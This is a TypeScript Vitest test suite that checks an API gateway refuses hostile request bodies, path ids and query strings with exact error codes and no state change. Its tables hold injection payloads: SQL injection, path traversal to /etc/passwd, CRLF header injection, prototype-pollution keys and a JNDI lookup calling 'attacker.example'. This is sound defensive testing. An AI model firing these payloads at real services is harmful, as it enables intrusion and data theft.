import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { attackWorld, exchangeBody, refused, type AttackWorld } from './support/world.ts';

/**
 * Hostile bodies, ids and query strings. Every refusal has its exact status and code, none is a
 * 5xx, and none changes the guarded tables.
 */
let w: AttackWorld;
beforeAll(async () => {
  w = await attackWorld();
});
afterAll(() => {
  w.gw.close();
});
// The clock is frozen; a second per test refills the per-principal rate budget (50/s).
beforeEach(() => {
  w.gw.clock.advance(1_000);
});

const MiB = 1024 * 1024;
const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

interface BodyAttack {
  /** Who sends it: an agency (abh), the person's session, or nobody. */
  as: 'abh' | 'jc' | 'person' | 'nobody';
  path: string;
  body: () => Promise<BodyInit> | BodyInit;
  contentType?: string;
  status: number;
  /** The problem code; `null` for a portal page, which answers HTML. */
  code: string | null;
}

const BODY_ATTACKS: Record<string, BodyAttack> = {
  'an exchange over 1 MiB': {
    as: 'abh',
    path: '/v1/exchanges',
    body: async () => JSON.stringify({ ...(await exchangeBody(w.abh)), pad: 'x'.repeat(MiB) }),
    status: 413,
    code: 'payload_too_large',
  },
  'a portal sign-in over 1 MiB, before authentication': {
    as: 'nobody',
    path: '/v1/portal/session',
    body: () => JSON.stringify({ code: 'x'.repeat(MiB + 1) }),
    status: 413,
    code: 'payload_too_large',
  },
  'a sign-in form over 1 MiB': {
    as: 'nobody',
    path: '/portal/sign-in',
    contentType: 'application/x-www-form-urlencoded',
    body: () => `code=${'x'.repeat(MiB + 1)}`,
    status: 413,
    code: 'payload_too_large',
  },
  'a chunked body of 2 MB without Content-Length': {
    as: 'abh',
    path: '/v1/exchanges',
    body: () =>
      new ReadableStream({
        start(controller) {
          for (let i = 0; i < 20; i++) controller.enqueue(new Uint8Array(100_000).fill(0x20));
          controller.close();
        },
      }),
    status: 413,
    code: 'payload_too_large',
  },
  'arrays nested 65 deep': {
    as: 'abh',
    path: '/v1/exchanges',
    body: () => nested(65),
    status: 400,
    code: 'validation_failed',
  },
  'objects nested 100 000 deep (and unterminated)': {
    as: 'jc',
    path: '/v1/consent-requests',
    body: () => '{"a":'.repeat(100_000),
    status: 400,
    code: 'validation_failed',
  },
  'a portal sign-in nested 65 deep, before authentication': {
    as: 'nobody',
    path: '/v1/portal/session',
    body: () => nested(65),
    status: 400,
    code: 'validation_failed',
  },
  'JSON cut short': {
    as: 'abh',
    path: '/v1/exchanges',
    body: () => '{"recipient":',
    status: 400,
    code: 'malformed_json',
  },
  'JSON with a trailing comma': {
    as: 'abh',
    path: '/v1/exchanges',
    body: () => '{"recipient":"jc-koeln",}',
    status: 400,
    code: 'malformed_json',
  },
  'JSON with single quotes': {
    as: 'jc',
    path: '/v1/consent-requests',
    body: () => "{'purpose':'x'}",
    status: 400,
    code: 'malformed_json',
  },
  'JSON with NaN': {
    as: 'abh',
    path: '/v1/exchanges',
    body: () => '{"a":NaN}',
    status: 400,
    code: 'malformed_json',
  },
  'JSON with an invalid escape': {
    as: 'abh',
    path: '/v1/exchanges',
    body: () => '{"a":"\\x41"}',
    status: 400,
    code: 'malformed_json',
  },
  'malformed JSON on the portal sign-in': {
    as: 'nobody',
    path: '/v1/portal/session',
    body: () => '{"code":',
    status: 400,
    code: 'malformed_json',
  },
  'malformed JSON on a portal grant': {
    as: 'person',
    path: '/v1/portal/requests/cr_x/grant',
    body: () => '{',
    status: 400,
    code: 'malformed_json',
  },
  'a __proto__ key in an exchange': {
    as: 'abh',
    path: '/v1/exchanges',
    body: async () =>
      JSON.stringify(await exchangeBody(w.abh)).replace('{', '{"__proto__":{"admin":true},'),
    status: 422,
    code: 'validation_failed',
  },
  'a constructor.prototype key in a consent request': {
    as: 'jc',
    path: '/v1/consent-requests',
    body: () => '{"constructor":{"prototype":{"admin":true}}}',
    status: 422,
    code: 'validation_failed',
  },
  'JSON sent as text/plain': {
    as: 'abh',
    path: '/v1/exchanges',
    contentType: 'text/plain',
    body: async () => JSON.stringify(await exchangeBody(w.abh)),
    status: 415,
    code: 'unsupported_media_type',
  },
  'a malformed multipart sign-in form': {
    as: 'nobody',
    path: '/portal/sign-in',
    contentType: 'multipart/form-data; boundary=zz',
    body: () => '--zz\r\nbroken',
    status: 400,
    code: null,
  },
};

async function sendBody(a: BodyAttack): Promise<Response> {
  const headers: Record<string, string> = { 'Content-Type': a.contentType ?? 'application/json' };
  if (a.as === 'person') headers['Cookie'] = w.cookie;
  const init = { method: 'POST', headers, body: await a.body(), duplex: 'half' } as RequestInit;
  return a.as === 'abh' || a.as === 'jc'
    ? w.as(w[a.as], a.path, init)
    : w.gw.app.request(a.path, init);
}

describe('hostile bodies', () => {
  it.each(Object.entries(BODY_ATTACKS))('refuses %s', async (_name, attack) => {
    const before = w.state();
    const res = await sendBody(attack);
    if (attack.code === null) {
      expect(res.status).toBe(attack.status);
      expect(res.headers.get('Content-Type')).toMatch(/^text\/html/);
    } else await refused(res, attack.status, attack.code);
    expect(w.state()).toBe(before);
  });

  it('lets 64 levels through to the schema (422, not the depth refusal)', async () => {
    const res = await w.as(w.abh, '/v1/exchanges', { method: 'POST', body: nested(64) });
    await refused(res, 422, 'validation_failed');
  });
});

/** Ids as an attacker writes them into a path, already URL-encoded where they must be. */
const HOSTILE_IDS: Record<string, string> = {
  'SQL injection': encodeURIComponent("' OR 1=1 --"),
  'an encoded path traversal': encodeURIComponent('../../etc/passwd'),
  'a NUL byte': '%00',
  'a NUL byte inside an id-like value': 'ex_a%00b',
  'a lone %': '%',
  'a broken escape': '%ZZ',
  'CRLF and a header': 'ex_%0d%0aSet-Cookie:%20pwned=1',
  'an umlaut': encodeURIComponent('ü'),
  'astral characters': encodeURIComponent('𝕏𝕏'),
  'a right-to-left override': encodeURIComponent('\u202eex_abc'),
  'a template lookup': encodeURIComponent('${jndi:ldap://attacker.example/x}'),
  '64 characters': 'x'.repeat(64),
};
const LONG_IDS: Record<string, string> = {
  '65 characters': 'x'.repeat(65),
  '5 000 characters': 'x'.repeat(5_000),
};

type Route = readonly [string, 'GET' | 'POST', 'jc' | 'person' | 'page'];
const ROUTES: Route[] = [
  ['/v1/mailbox/:id', 'GET', 'jc'],
  ['/v1/mailbox/:id/ack', 'POST', 'jc'],
  ['/v1/consents/:id/revoke', 'POST', 'jc'],
  ['/v1/portal/requests/:id', 'GET', 'person'],
  ['/v1/portal/consents/:id/revoke', 'POST', 'person'],
  ['/portal/requests/:id', 'GET', 'page'],
];

async function reach([path, method, who]: Route, id: string): Promise<Response> {
  const url = path.replace(':id', id);
  if (who === 'jc') return w.as(w.jc, url, { method });
  return w.gw.app.request(url, { method, headers: { Cookie: w.cookie } });
}

describe('injection-shaped ids in paths', () => {
  const table = (ids: Record<string, string>) =>
    Object.entries(ids).flatMap(([name, id]) =>
      ROUTES.map((route) => [name, route[1], route[0], id, route] as const),
    );

  it.each(table(HOSTILE_IDS))(
    'answers %s on %s %s with 404 not_found',
    async (_n, _m, _p, id, route) => {
      const before = w.state();
      const res = await reach(route, id);
      if (route[2] === 'page') expect(res.status).toBe(404);
      else await refused(res, 404, 'not_found');
      expect(res.headers.getSetCookie().join()).not.toContain('pwned');
      expect(w.state()).toBe(before);
    },
  );

  it.each(table(LONG_IDS))(
    'answers an id of %s on %s %s with 422 validation_failed (pages: 404)',
    async (_n, _m, _p, id, route) => {
      const before = w.state();
      const res = await reach(route, id);
      if (route[2] === 'page') expect(res.status).toBe(404);
      else await refused(res, 422, 'validation_failed');
      expect(w.state()).toBe(before);
    },
  );
});

const sql = encodeURIComponent("' OR 1=1 --");
const QUERY_ATTACKS: [string, 'jc' | 'dpo', string, number, string][] = [
  [
    'a subject value',
    'jc',
    `/v1/consents?subject.scheme=azr&subject.value=${sql}`,
    422,
    'validation_failed',
  ],
  [
    'a subject scheme',
    'jc',
    `/v1/consents?subject.scheme=azr${sql}&subject.value=1`,
    422,
    'validation_failed',
  ],
  ['a mailbox cursor', 'jc', `/v1/mailbox?cursor=${sql}`, 422, 'validation_failed'],
  [
    'a 5 000-character cursor',
    'jc',
    `/v1/mailbox?cursor=${'A'.repeat(5_000)}`,
    422,
    'validation_failed',
  ],
  ['a negative limit', 'jc', '/v1/mailbox?limit=-1', 422, 'validation_failed'],
  ['consent events since', 'jc', `/v1/consent-events?since=${sql}`, 422, 'validation_failed'],
  [
    'a traversal as events cursor',
    'jc',
    `/v1/consent-events?cursor=${encodeURIComponent('../')}`,
    422,
    'validation_failed',
  ],
  ['an audit cursor', 'dpo', `/v1/audit/entries?cursor=${sql}`, 422, 'validation_failed'],
  [
    'an audit from',
    'dpo',
    `/v1/audit/entries?from=${encodeURIComponent("2026' --")}`,
    422,
    'validation_failed',
  ],
  [
    'an inclusion proof seq',
    'dpo',
    `/v1/audit/proofs/inclusion?seq=${encodeURIComponent('1 OR 1=1')}&treeSize=1`,
    422,
    'validation_failed',
  ],
  [
    'a tree size past 2^53',
    'dpo',
    '/v1/audit/proofs/inclusion?seq=0&treeSize=99999999999999999999',
    422,
    'validation_failed',
  ],
];

describe('injection-shaped query strings', () => {
  it.each(QUERY_ATTACKS)('refuses %s', async (_name, who, path, status, code) => {
    const before = w.state();
    await refused(await w.as(w[who], path), status, code);
    expect(w.state()).toBe(before);
  });

  it.each([
    ['agency', `/v1/audit/entries?agency=${sql}`],
    ['event', `/v1/audit/entries?event=${encodeURIComponent("x' OR '1'='1")}`],
  ])('treats SQL in the audit %s filter as a plain value: 200 and no entries', async (_n, path) => {
    const res = await w.as(w.dpo, path);
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ items: [] });
  });
});
